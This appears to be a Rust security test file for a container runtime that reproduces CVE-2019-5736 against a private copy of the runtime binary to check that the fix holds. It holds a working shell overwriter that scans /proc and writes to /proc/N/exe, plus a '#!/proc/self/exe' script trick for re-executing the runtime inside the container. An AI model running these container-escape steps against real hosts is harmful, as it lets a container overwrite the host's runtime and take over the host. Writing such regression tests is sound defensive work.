//! The runtime's own binary, which a process in the container may get hold of while it is being started.
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};

use orlop_tests::{Container, Fifo, Invocation, runtime};

use crate::stage::{Attack, rounds, set_capabilities};

/// A copy of the runtime, so that nobody else's is harmed if the attack succeeds.
struct Copy {
    path: PathBuf,
    before: Vec<u8>,
}

impl Copy {
    fn of(container: &Container) -> Self {
        let path = container.home().join("runtime");
        fs::copy(runtime::binary(), &path).expect("a copy");
        fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).expect("it is ours");
        let before = fs::read(&path).expect("it is there");
        Self { path, before }
    }

    fn call(&self, container: &Container, words: &[&str]) -> Invocation {
        let root = container.state_root();
        Invocation::new(&self.path, &container.io())
            .env("ORLOP_TEST", &container.id)
            .args(["--root", &root.to_string_lossy()])
            .args(words)
    }

    fn changed(&self) -> bool {
        fs::read(Path::new(&self.path)).expect("it is there") != self.before
    }
}

/// Opens whatever is executed in the container and is not the container's, and writes to it as soon as nobody runs it.
const OVERWRITER: &str = r#"
overwrite() {
    exec 3<"$1" || return
    n=0
    while [ $n -lt 5000 ]; do
        { echo overwritten >/proc/self/fd/3; } 2>/dev/null && { echo overwritten; return; }
        n=$((n + 1))
    done
    exec 3<&-
}
echo ready >/events
while :; do
    for p in /proc/[0-9]*; do
        case $(readlink $p/exe) in
        */busybox | "") ;;
        *) [ $p = /proc/1 ] || overwrite $p/exe 2>/dev/null ;;
        esac
    done
done
"#;

#[test]
fn cve_2019_5736_the_runtime_is_overwritten_while_it_enters_the_container() {
    let attack = Attack::new(
        "CVE-2019-5736",
        "a process waits for another to be added, opens `/proc/N/exe` and overwrites what it finds there",
        "what enters is a machine in a sealed memfd, never the host's file (`runtime/src/image.rs`, `init/src/birth.rs`)",
    );
    let mut container = Attack::sh(OVERWRITER);
    set_capabilities(&mut container, &["CAP_DAC_OVERRIDE", "CAP_SYS_PTRACE"]);
    let mut events: Fifo = container.fifo("events");
    let copy = Copy::of(&container);
    container.bundle.save();
    container.create();
    container.start();
    assert_eq!(events.line(), "ready");
    let all = rounds().div_ceil(2);
    for number in 0..all {
        let out = copy.call(&container, &["exec", &container.id, "/bin/true"]).output();
        attack.succeeds_if(copy.changed(), format!("the runtime is another, after {number}: {out}"));
    }
    container.command("delete", &["--force"]).ok();
    attack.succeeds_if(copy.changed(), "the runtime is another");
    attack.held(format!("{all} processes were added"));
}

#[test]
fn cve_2019_5736_the_program_is_the_runtime_itself() {
    let attack = Attack::new(
        "CVE-2019-5736",
        "the image's program is a script with `#!/proc/self/exe`: the runtime is executed again, inside, with libraries of the image's",
        "`/proc/self/exe` is a small sealed machine that loads no library, and ends (`runtime/src/image.rs`)",
    );
    let mut container = Attack::sh("");
    let script = container.bundle.rootfs().join("bin/script");
    fs::write(&script, "#!/proc/self/exe\n").expect("a new file");
    fs::set_permissions(&script, fs::Permissions::from_mode(0o755)).expect("it is ours");
    let copy = Copy::of(&container);
    let bundle = container.bundle.path().to_string_lossy().into_owned();
    for program in ["/proc/self/exe", "/bin/script"] {
        container.set("/process/args", vec![program, "--version"]);
        container.bundle.save();
        let out = copy.call(&container, &["run", "--bundle", &bundle, &container.id]).output();
        let version = runtime::version();
        attack.succeeds_if(
            out.stdout.contains(version) || copy.changed(),
            format!("the host's binary has run in the container: {out}"),
        );
    }
}
